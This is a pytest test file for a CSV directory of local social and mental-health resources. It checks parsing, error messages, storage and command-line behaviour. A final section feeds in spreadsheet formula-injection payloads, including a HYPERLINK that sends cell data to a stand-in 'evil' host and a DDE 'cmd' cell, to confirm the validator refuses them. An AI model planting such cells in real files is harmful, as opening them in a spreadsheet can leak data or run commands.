"""The directory of local resources: the CSV file (every problem with file, line and column), its
round trip, resources offered by kind and interest, the local store, and ``egonet resources``."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from egonet.errors import DirectoryError
from egonet.model import Directory, GoalKind, Resource
from egonet.store import Store
from egonet.store.tables import TABLES
from egonet.wire.resources import MAX_RESOURCES, check_directory_text, directory_text, load_directory
from tests.helpers import egonet

EXAMPLE = Path(__file__).resolve().parents[1] / "docs" / "resources.example.csv"
HEADER = "id,kind,name,support,interests,languages,contact,description\n"


def problems(text: str) -> list[str]:
    found, listed = check_directory_text(text, "dir.csv", "S")
    assert (found is None) == bool(listed)
    return [f"{p.field}: {p.message}" for p in listed]


def test_the_example_file_reads_and_writes_back_exactly() -> None:
    directory = load_directory(EXAMPLE, "CGG Leuven")
    assert len(directory.resources) >= 8 and directory.service == "CGG Leuven"
    kinds = {r.kind for r in directory.resources}
    assert kinds == {"generic_social", "peer_support", "activity", "association", "mental_health"}
    assert directory_text(directory) == EXAMPLE.read_text(encoding="utf-8")


def test_a_directory_survives_the_round_trip() -> None:
    directory = Directory(
        "S",
        (
            Resource("a-1", 'Club "Le Pas", Namur', "activity", ("companionship",), ("walking", "nature"), ("fr",)),
            Resource("b_2", "Écoute", "peer_support", contact="Rue X 1,\n5000 Namur; 081 00", description="; ok"),
        ),
    )
    text = directory_text(directory)
    again, listed = check_directory_text(text, "x", "S")
    assert listed == [] and again == directory and directory_text(again) == text


def test_a_byte_order_mark_crlf_and_blank_rows_are_accepted(tmp_path: Path) -> None:
    path = tmp_path / "dir.csv"
    path.write_bytes(b"\xef\xbb\xbf" + HEADER.replace("\n", "\r\n").encode() + b"x,activity,X,,,,,\r\n,,,,,,,\r\n\r\n")
    assert [r.id for r in load_directory(path, "S").resources] == ["x"]


def test_a_malformed_file_is_reported_with_file_line_and_column_all_at_once(tmp_path: Path) -> None:
    text = (
        "id,kind,name,support,interests,languages,contact,colour\n"
        "Bad Id,club,,emotional;hugs,Sport,FR;nl,x,y\n"
        'ok,activity,"Two\nlines",,,,,\n'
        "ok,activity,Fine,practical;practical,,,,\n"
        "short,activity\n"
    )
    path = tmp_path / "dir.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(DirectoryError) as caught:
        load_directory(path, "S")
    shown = [str(p) for p in caught.value.problems]
    assert all(line.startswith(f"{path}: line ") for line in shown)
    fields = [p.field for p in caught.value.problems]
    assert fields == [
        "line 1, colour",
        "line 1",  # 'description' is missing
        "line 2, id",
        "line 2, kind",
        "line 2, name",
        "line 2, support",
        "line 2, interests",
        "line 2, languages",
        "line 3, name",  # a line break in a name
        "line 5, id",  # the row starts on line 5 (the name above took two lines): listed twice
        "line 5, support",
        "line 6",
    ]
    assert "'description' is missing" in shown[1] and "'club' is not a kind" in shown[3]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "line 1: the header row is missing"),
        ("id,kind\n", "line 1: the column 'name' is missing"),
        (HEADER + f"{'x' * 65},activity,X,,,,,\n", "line 2, id: "),
        (HEADER + f"x,activity,{'n' * 121},,,,,\n", "line 2, name: is 121 characters long (at most 120)"),
        (HEADER + f"x,activity,X,,,,{'c' * 501},\n", "line 2, contact: is 501 characters long (at most 500)"),
        (HEADER + "x,activity,X,,,,,a\x07b\n", "line 2, description: holds a control character"),
        (HEADER + 'x,activity,"X"y,,,,,\n', "line 2: not valid CSV"),
        (HEADER.replace("kind", "id"), "line 1, id: is a column named twice"),
    ],
)
def test_each_rule_of_the_format(text: str, expected: str) -> None:
    assert any(line.startswith(expected) for line in problems(text)), problems(text)


def test_too_many_rows_or_bytes_are_refused() -> None:
    rows = "".join(f"r{i},activity,R,,,,,\n" for i in range(MAX_RESOURCES + 1))
    assert problems(HEADER + rows) == [f"line {MAX_RESOURCES + 2}: more than 2,000 resources"]
    assert problems(HEADER + "x,activity,X,,,,," + "d" * 1_000_000 + "\n") == [
        ": the file is larger than 1,000,000 bytes"
    ]


def test_a_file_not_in_utf8_names_its_line(tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes(HEADER.encode() + "x,activity,Caf\xe9,,,,,\n".encode("latin-1"))
    with pytest.raises(DirectoryError) as caught:
        load_directory(path, "S")
    assert caught.value.problems[0].field == "line 2" and "UTF-8" in caught.value.problems[0].message


def test_resources_are_offered_by_kind_and_interest() -> None:
    directory = load_directory(EXAMPLE, "S")
    leisure = GoalKind("leisure", {"en": "An activity"}, frozenset({"resource"}), "none", ("activity", "association"))
    offered = directory.fitting(leisure, interest="music")
    assert {r.kind for r in offered} <= {"activity", "association"} and len(offered) == 4
    assert offered[0].id == "music-workshop-liege"
    care = GoalKind("care", {"en": "Care"}, frozenset({"resource"}), "none", ("mental_health",))
    assert [r.id for r in directory.fitting(care)] == ["huisartsen-kessel-lo", "mobile-team-107"]
    assert "walking" in directory.interests() and "music" in directory.interests()


def test_the_store_keeps_one_directory_per_service_and_refuses_a_bad_one(tmp_path: Path) -> None:
    with Store(tmp_path / "s.sqlite3") as store:
        assert store.directory("A") == Directory("A")
        kept = store.save_directory("A", EXAMPLE.read_text(encoding="utf-8"))
        assert store.directory("A") == kept and store.directory("B") == Directory("B")
        with pytest.raises(DirectoryError):
            store.save_directory("A", HEADER + "x,club,X,,,,,\n")
        assert store.directory("A") == kept  # unchanged
        store.save_directory("A", HEADER + "x,activity,X,,,,,\n")
        assert [r.id for r in store.directory("A").resources] == ["x"]
        assert store.directory_services() == ["A"]


def test_a_store_made_before_directories_opens_and_gets_the_table(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    Store(path).close()
    with sqlite3.connect(path) as con:
        con.execute("DROP TABLE directories")
    with Store(path) as store:
        assert store.directory("A") == Directory("A")
        store.save_directory("A", HEADER)
    with sqlite3.connect(path) as con:
        assert "directories" in {r[0] for r in con.execute("SELECT name FROM sqlite_master")}
    assert "directories" in TABLES


def test_the_commands_check_load_and_show(tmp_path: Path) -> None:
    home = tmp_path / "home"
    good = egonet(home, "resources", "check", str(EXAMPLE))
    assert good.returncode == 0 and good.stdout.strip() == "ok: 9 resources"
    bad = tmp_path / "bad.csv"
    bad.write_text(HEADER + "x,club,X,,,,,\ny,activity,,,,,,\n", encoding="utf-8")
    checked = egonet(home, "resources", "check", str(bad))
    assert checked.returncode == 1 and "Traceback" not in checked.stderr
    assert checked.stderr.splitlines() == [
        f"error: {bad}: line 2, kind: 'club' is not a kind of resource "
        "(generic_social, peer_support, activity, association, mental_health)",
        f"error: {bad}: line 3, name: is empty",
    ]
    assert egonet(home, "resources", "load", str(bad), "--service", "S").returncode == 1
    none = egonet(home, "resources", "show")
    assert none.returncode == 2 and "no directory" in none.stderr
    loaded = egonet(home, "resources", "load", str(EXAMPLE), "--service", "CGG Leuven")
    assert loaded.returncode == 0 and "kept 9 resources" in loaded.stdout
    shown = egonet(home, "resources", "show", "--service", "CGG Leuven")
    assert shown.returncode == 0 and shown.stdout.startswith("CGG Leuven: 9 resources")
    assert "walking-club-namur  [activity]  Les Marcheurs du Mardi" in shown.stdout
    assert "interests: walking, nature" in shown.stdout
    missing = egonet(home, "resources", "check", str(tmp_path / "absent.csv"))
    assert missing.returncode == 1 and "cannot read the file" in missing.stderr


# -- found by the probe ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-IMPORT()"],
)
def test_a_cell_a_spreadsheet_would_run_is_refused(cell: str) -> None:
    """The secretary opens this very file in a spreadsheet."""
    quoted = '"' + cell.replace('"', '""') + '"'
    found = problems(f"{HEADER}walk,activity,{quoted},,,,,\n")
    assert any("spreadsheet formula" in p or "control character" in p for p in found), found


def test_a_phone_number_with_its_country_code_stays() -> None:
    assert problems(f"{HEADER}walk,activity,Walking group,,,,+32 81 22 22 22,\n") == []


@pytest.mark.parametrize("character", ["\u202e", "\u2028", "\u0085", "\u2066"])
def test_invisible_and_direction_characters_are_refused(character: str) -> None:
    assert any("control character" in p for p in problems(f"{HEADER}walk,activity,Walk{character}ing,,,,,\n"))


def test_a_hostile_file_gets_a_short_answer() -> None:
    """Found: 333,000 header cells took 110 s (a quadratic check) and 333,007 problems; 495,000
    short rows made a 30 MB answer."""
    assert len(problems("id," * 333_000 + "\n")) == 1
    found = problems(HEADER + "a\n" * 200_000)
    assert len(found) == 101 and "more problems" in found[-1]
